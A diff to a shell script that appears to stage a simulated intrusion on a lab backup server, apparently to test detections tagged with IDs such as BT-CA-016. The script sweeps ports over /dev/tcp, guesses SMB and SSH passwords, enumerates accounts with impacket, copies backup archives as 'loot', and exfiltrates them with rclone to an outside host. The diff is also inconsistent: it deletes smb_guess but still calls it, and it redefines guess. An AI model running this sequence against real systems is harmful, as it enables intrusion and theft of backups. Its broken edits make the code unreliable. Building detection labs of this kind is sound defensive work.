@@ -39,7 +39,6 @@ cat >"$WORK/smb.conf" <<EOF
   pid directory = $WORK/state
   passdb backend = smbpasswd:$WORK/state/smbpasswd
   force user = root
-  rpc start on demand helpers = no
 [backups]
   path = $data
   read only = no
@@ -98,8 +97,10 @@ step() {
   done
 }
 smb() { on "$1" smbclient -s /dev/null //10.99.0.1/backups -U "$2" -c "$3"; }
-guess() { for n in $(seq 12); do "$@" "wrong-$n"; done; }
-smb_guess() { on intruder smbclient -s /dev/null //10.99.0.1/backups -U "backup-op%$1" -c ls; }
+tool() { on intruder timeout 20 /usr/bin/python3 "/usr/share/doc/python3-impacket/examples/$1" "${@:2}"; }
+guess() { for n in $(seq 24); do "$@" "wrong-$n"; done; }
+smb_tool() { on intruder timeout 20 /usr/bin/python3 "/usr/share/doc/python3-impacket/examples/$1" "${@:2}"; }
+guess() { on intruder smbclient -s /dev/null //10.99.0.1/backups -U "backup-op%$1" -c ls; }
 ssh_as() { on intruder sshpass -p "$1" ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o PreferredAuthentications=password \
   -o NumberOfPasswordPrompts=1 backup-op@10.99.0.1 "${2:-true}"; }
 ports() { on intruder bash -c 'for p in $(seq 20 30) 80 110 111 135 139 143 389 443 445 513 514 636 873 902 1433 1521 2049 3128 3260 3306 3389 5432 5900 5985 6379 8006 8080 8443 9000 9392 9401 9419 10000 10443; do timeout 0.3 bash -c "exec 3<>/dev/tcp/10.99.0.1/$p"; done'; }
@@ -113,10 +114,10 @@ nightly() { for n in 1 2 3 4 5 6; do smb backup 'backup-op%Repo-Pass-1' "cd jobs
     --s3-no-head --s3-endpoint http://10.99.0.1:9000 copy "$WORK" :s3:backups/veeam --include '*.vbk'; }
 step "BACKUP01 writes six archives by SMB and S3 (no intruder)" "" nightly
 step "Intruder tries 46 ports of the repository" "BT-DI-002" ports
-step "12 wrong SMB passwords, then the right one" "BT-CA-016" eval 'guess smb_guess; smb_guess Repo-Pass-1'
-step "Shares and accounts listed: smbclient -L, impacket-samrdump, impacket-netview" "BT-DI-004 BT-DI-006" eval \
-  'on intruder smbclient -s /dev/null -L 10.99.0.1 -U backup-op%Repo-Pass-1; on intruder impacket-samrdump backup-op:Repo-Pass-1@10.99.0.1; on intruder impacket-netview -target 10.99.0.1 LAB/backup-op:Repo-Pass-1'
-step "12 wrong SSH passwords, then a session" "BT-CA-015 BT-LM-012" eval 'guess ssh_as; ssh_as Repo-Pass-1 "ls -la; df -h"'
+step "24 wrong SMB passwords, then the right one" "BT-CA-016" eval 'guess smb_guess; smb_guess Repo-Pass-1'
+step "Shares and accounts listed: smbclient -L, impacket samrdump and netview" "BT-DI-004 BT-DI-006" eval \
+  'on intruder smbclient -s /dev/null -L 10.99.0.1 -U backup-op%Repo-Pass-1; tool samrdump.py backup-op:Repo-Pass-1@10.99.0.1; tool netview.py -target 10.99.0.1 LAB/backup-op:Repo-Pass-1'
+step "24 wrong SSH passwords, then a session" "BT-CA-015 BT-LM-012" eval 'guess ssh_as; ssh_as Repo-Pass-1 "ls -la; df -h"'
 step "Archives read by SMB" "BT-CO-001" smb intruder 'backup-op%Repo-Pass-1' "cd jobs; lcd $WORK/loot; prompt; mget FS01.vbk FS02.vbk FS03.vbk"
 step "An archive read over NFS" "BT-CO-001" on intruder nfs-cp "nfs://10.99.0.1/backups/jobs/FS04.vbk?version=3" "$WORK/loot/FS04.vbk"
 step "Loot sent outside with rclone to S3" "BT-EX-001" store http://203.0.113.50:9000 copy "$WORK/loot" :s3:drop/x
